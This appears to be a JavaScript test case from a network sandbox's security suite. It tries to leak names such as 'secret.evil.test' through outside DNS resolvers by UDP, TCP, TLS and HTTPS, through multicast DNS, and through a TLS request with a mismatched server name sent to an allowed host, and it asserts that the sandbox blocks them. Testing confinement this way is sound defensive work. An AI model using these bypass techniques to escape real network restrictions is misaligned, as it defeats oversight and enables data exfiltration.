// SPDX-License-Identifier: Apache-2.0
// C5: names resolved elsewhere: another resolver by UDP, TCP and TLS, HTTPS at a resolver's address and at an allowed one, multicast.
import '../lib/inside.mjs';
import assert from 'node:assert/strict';
import { after } from 'node:test';
import { bothWays } from '../lib/escape.mjs';
import { NETWORK } from '../lib/internet.mjs';
import { DNS_ELSEWHERE, HELLO, SITES, Services } from '../lib/services.mjs';
import { ask, reached, request, talk } from '../lib/talk.mjs';

export const without = ['net_modes', 'allow_pins', 'allow_hosts'];

const services = await Services.start();
after(() => services.stop());

export async function attack(box) {
	await box.out('getent ahosts www.example.test');
	const resolvers = Object.values(DNS_ELSEWHERE).map(server => ({ name: 'secret.evil.test', server }));
	const answers = await ask(box, [...resolvers, ...resolvers.map(one => ({ ...one, way: 'tcp' })), { name: 'secret.local', server: '224.0.0.251', port: 5353, wait: 5 }, { name: 'secret.local', server: 'ff0e::fb', port: 5353, wait: 5 }]);
	const said = await talk(box, [4, 6].flatMap(family => [
		{ name: `tls${family}`, to: [DNS_ELSEWHERE[family], 853], tls: 'dns.example.test', send: [request('dns.example.test')] },
		{ name: `https${family}`, to: [DNS_ELSEWHERE[family], 443], tls: 'dns.example.test', send: [request('dns.example.test')] },
		{ name: `shared${family}`, to: [SITES['www.example.test'][family], 443], tls: 'other.test', send: [request('other.test')] },
	]));
	const asked = Object.keys(answers).filter(question => answers[question].startsWith('code'));
	const talked = reached(said, text => text.includes(HELLO) || text.includes('this is other.test'));
	return { succeeded: asked.length + talked.length > 0, asked, talked, said };
}

bothWays('C5 names resolved elsewhere', {
	without,
	attack,
	daemon: NETWORK,
	sandbox: { network: { mode: 'allow', allow: ['www.example.test'] } },
	broken(evidence) {
		assert.equal(evidence.asked.length, 4, JSON.stringify(evidence));
		assert.equal(evidence.talked.length, 6, JSON.stringify(evidence));
	},
});
